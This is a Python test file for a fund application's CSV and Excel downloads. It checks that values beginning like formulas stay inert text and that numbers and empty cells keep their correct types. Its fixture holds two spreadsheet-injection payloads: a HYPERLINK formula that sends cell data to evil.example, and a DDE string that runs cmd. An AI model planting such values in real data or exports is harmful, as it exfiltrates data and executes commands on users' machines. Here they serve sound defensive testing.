"""Issue 12 §6: the fund's public downloads are safe to open in a spreadsheet. A title or a name that
starts like a formula stays text; numbers stay numbers; empty cells stay empty."""

import csv
import io

import pytest
from openpyxl import load_workbook

from sanshe.funds import services
from sanshe.funds.models import Application

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
DDE = "-1+1+cmd|' /C calc'!A0"


@pytest.fixture
def hostile(funded, apply, chair, treasurer, member_a):
    chair.display_name = DDE
    chair.save(update_fields=["display_name"])
    application = apply(funded, 100_000)
    Application.objects.filter(pk=application.pk).update(title=HYPERLINK)
    services.cast_vote(actor=chair, application=application, choice="yes")
    return funded


def test_the_decisions_csv_neutralises_formulas_and_leaves_empty_cells_empty(client, hostile):
    text = client.get(f"/funds/{hostile.pk}/decisions.csv").content.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text)))
    assert row[0] == "'" + HYPERLINK
    assert row[5] == "'" + DDE
    assert row[4] == "" and row[6] == "" and row[8] == ""  # nothing approved, no one against, no reason yet
    assert row[3] == "1000.00"


def test_the_ledger_csv_writes_amounts_as_plain_numbers(client, hostile):
    text = client.get(f"/funds/{hostile.pk}/ledger.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][4] == "5000.00" and rows[1][5] == ""


def test_the_fund_workbook_keeps_formulas_as_text_and_numbers_as_numbers(client, hostile):
    book = load_workbook(io.BytesIO(client.get(f"/funds/{hostile.pk}/fund.xlsx").content))
    decisions = list(book["决定"].iter_rows(min_row=2))[0]
    title, voters = decisions[0], decisions[5]
    assert (title.value, title.data_type, title.quotePrefix) == (HYPERLINK, "s", True)
    assert (voters.value, voters.data_type, voters.quotePrefix) == (DDE, "s", True)
    assert decisions[3].data_type == "n" and decisions[3].value == 1000
    assert decisions[4].value is None and decisions[8].value is None
    ledger = list(book["账本"].iter_rows(min_row=2, values_only=True))[0]
    assert ledger[4] == 5000 and ledger[5] is None
